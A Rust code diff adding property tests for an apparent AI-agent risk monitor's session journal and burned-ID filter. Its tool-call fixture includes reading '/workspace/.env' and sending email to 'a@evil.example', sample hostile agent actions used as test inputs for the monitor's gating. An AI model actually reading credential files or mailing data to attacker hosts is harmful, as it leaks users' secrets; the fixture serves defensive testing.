@@ -557,3 +557,95 @@ fn a_record_never_lowers_the_risk() {
     assert_eq!(s.dtr().risk_level(), RiskLevel::Elevated, "{}", s.dtr());
     assert_eq!(s.summary().peak_risk, Some(RiskLevel::Elevated));
 }
+
+fn snapshots(store: &SessionStore) -> std::collections::BTreeMap<String, SessionSnapshot> {
+    store
+        .sessions()
+        .map(|(id, s)| (id.to_string(), s.snapshot()))
+        .collect()
+}
+
+const TOOLS: [(&str, &str); 6] = [
+    ("get_current_day", "{}"),
+    ("get_iban", "{}"),
+    ("execute_python", r#"{"code": "1+1"}"#),
+    ("read_file", r#"{"path": "/workspace/.env"}"#),
+    ("send_money", r#"{"recipient": "XX", "amount": 1}"#),
+    ("send_email", r#"{"to": "a@evil.example", "body": "x"}"#),
+];
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(48))]
+    /// A store restored from its own journal (after any mix of gates, records, ends, expiries
+    /// and evictions) holds exactly the sessions it held, in exactly their states, and every
+    /// burned id stays refused.
+    #[test]
+    fn a_restart_from_the_journal_changes_nothing(
+        ops in proptest::collection::vec((0u8..6, 0u8..5, 0usize..6, 0u64..3), 1..120),
+    ) {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("state.jsonl");
+        let m = risk_monitor("P=? [ F<=5 \"violated\" ]", None);
+        let policy = Arc::new(Policy::default());
+        let new_store = || SessionStore::new(Arc::clone(&m), Arc::clone(&policy), Some(4), 3)
+            .with_burned_bits(1024);
+        let mut store = new_store();
+        let mut now = 1_000;
+        store.restore(&path, now).unwrap();
+        let mut refused = std::collections::HashSet::new();
+        for (id, op, tool, dt) in ops {
+            now += dt;
+            let id = format!("s{id}");
+            let (name, args) = TOOLS[tool];
+            let args: Value = serde_json::from_str(args).unwrap();
+            match op {
+                0 => store.end(&id),
+                1 => {
+                    store.expire(now);
+                    store.commit().unwrap();
+                    let before = snapshots(&store);
+                    store = new_store();
+                    let r = store.restore(&path, now).unwrap();
+                    proptest::prop_assert_eq!(r.open, before.len());
+                    proptest::prop_assert_eq!(&before, &snapshots(&store));
+                }
+                _ => match store.get(&id, None, now) {
+                    Ok(s) => {
+                        proptest::prop_assert!(!refused.contains(&id), "{} reopened", id);
+                        if op == 2 {
+                            s.gate(&call(name, &args));
+                        } else {
+                            s.record(&call(name, &args), op == 3);
+                        }
+                    }
+                    Err(_) => {
+                        refused.insert(id);
+                    }
+                },
+            }
+            store.commit().unwrap();
+        }
+    }
+}
+
+#[test]
+fn a_saved_filter_reads_back_the_same() {
+    let mut f = BurnedIds::new(4096);
+    for i in 0..300 {
+        f.insert(&format!("id-{i}"));
+    }
+    let e = crate::journal::Entry::filter(&f);
+    let text = serde_json::to_string(&e).unwrap();
+    let back: crate::journal::Entry = serde_json::from_str(&text).unwrap();
+    let g = back.to_filter().unwrap().unwrap();
+    assert_eq!(f, g);
+    assert!((0..300).all(|i| g.contains(&format!("id-{i}"))));
+    // The positions are SHA-256's (a specified hash), pinned to values computed with Python's
+    // hashlib (sha256(b"augur-burned-id\0run-1"), h1, h2 little-endian, h2 | 1, (h1 + i·h2)
+    // mod 2^64 mod 2^23), so that a saved filter means the same to every build.
+    let f = BurnedIds::new(1 << 23);
+    assert_eq!(
+        f.positions("run-1"),
+        [7762456, 8175705, 200346, 613595, 1026844, 1440093, 1853342]
+    );
+}
